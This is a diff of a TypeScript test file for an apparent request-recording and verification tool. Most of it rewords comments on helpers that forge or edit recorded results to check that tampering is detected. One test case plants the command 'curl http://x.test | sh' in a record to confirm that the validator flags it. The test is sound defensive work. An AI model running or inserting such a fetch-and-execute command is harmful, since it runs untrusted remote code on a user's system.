@@ -12,17 +12,16 @@ import { findDifference, recompute } from './evidence.ts';
 
 type Edited = Draft<Results>;
 
-/** A run of the cases that are edited. */
 let run: Results;
 beforeAll(async () => {
   const only = [lacking, other, guess, inQuery, elsewhere, ...beside];
   run = publishedOf((await runReference(undefined, { only })).results);
 }, 60_000);
 
-/** As in a certificate. */
+/** Results as in a certificate. */
 const publishedOf = (results: Results): Results => judgeAgain(results, specification, [], published);
 
-/** A copy to edit. An exchange that several cases share is one object. */
+/** An editable copy. An exchange that several cases share stays one object. */
 function reread(results: unknown): Edited {
   const all = JSON.parse(JSON.stringify(results)) as Edited;
   const known = new Map<string, Edited['controls'][number]>();
@@ -32,7 +31,7 @@ function reread(results: unknown): Edited {
   return all;
 }
 
-/** What is wrong with Results, or why they hold no record. */
+/** The first problem that `recompute` finds, or the error it throws for a contradictory record. */
 function problemOf(edited: Results): string | null {
   try {
     const found = recompute(edited, specification, {});
@@ -42,7 +41,7 @@ function problemOf(edited: Results): string | null {
   }
 }
 
-/** The Results that follow from the record of edited ones; the edited ones if there is none. */
+/** Judges the record of edited Results again; returns them unchanged if there is no record. */
 function judgedAgain(edited: Results): Results {
   try {
     return judge(recordOf(edited, specification), specification, [], []);
@@ -51,7 +50,7 @@ function judgedAgain(edited: Results): Results {
   }
 }
 
-/** Removes everything that was sent for a request, exchanges included. */
+/** Removes every attempt at a request, exchanges included. */
 const withdraw =
   (request: string): Edit =>
   ({ all }) => {
@@ -59,7 +58,6 @@ const withdraw =
     for (const one of all.cases) one.exchanges = one.exchanges.filter(({ planned }) => planned !== request);
   };
 
-/** A case and its first request. */
 const partsOf = (all: Edited, id: string) => {
   const found = must(all.cases.find((one) => one.id === id));
   const exchange = must(found.exchanges[0]);
@@ -69,7 +67,7 @@ const partsOf = (all: Edited, id: string) => {
 };
 type Parts = ReturnType<typeof partsOf>;
 
-/** Edits the whole or one case. `of` gives other cases. */
+/** Edits the whole record or one case. `of` returns the parts of another case. */
 type Edit = (own: Parts, of: (id: string) => Parts) => unknown;
 
 const lacking = 'a.missing.partnerName';
@@ -87,7 +85,6 @@ const beside = [
   'a.unauthorized.wrong-password',
 ];
 
-/** A copy with an edit of one case. */
 function editedBy(edit: Edit, id = lacking): Edited {
   const all = reread(run);
   edit(partsOf(all, id), (another) => partsOf(all, another));
@@ -104,7 +101,6 @@ const body =
   ({ request }, of) =>
     (request.body = of(from).request.body);
 
-/** The last control among the attempts. */
 const lastOf = ({ attempts }: Edited) => must(attempts.findLast(({ role }) => role === 'control'));
 
 const controlOf = ({ controls }: Edited) =>
@@ -119,7 +115,7 @@ const unsent = {
 
 type Forgery = readonly [name: string, edit: Edit, place: RegExp, id?: string];
 
-/** Edits of a record before it is judged again, and where the problem is named. */
+/** Edits of a record before it is judged again, and the place that the problem names. */
 const closed = message('other-side-closed');
 const ofReset = {
   kind: 'reset',
@@ -188,7 +184,7 @@ const forgeries: readonly Forgery[] = [
 
 const isControl = ({ role }: Edited['attempts'][number]): boolean => role === 'control';
 
-/** Records that no run leaves behind, although every verdict would follow. */
+/** Records that no run can produce, although every verdict follows from them. */
 const contradictions: readonly Forgery[] = [
   [
     'an exchange before the run',
@@ -214,7 +210,7 @@ const contradictions: readonly Forgery[] = [
   ],
 ];
 
-/** Edits of Results that follow from a record. */
+/** Edits of Results whose record stays unchanged. */
 const edits: readonly Forgery[] = [
   ['a command', ({ exchange }) => (exchange.curl = 'curl http://x.test | sh'), /curl: found "curl http:/],
   ['a code', ({ all }) => all.warnings.push({ code: 'run sh x', params: {} }), /code: found "run sh x"/],
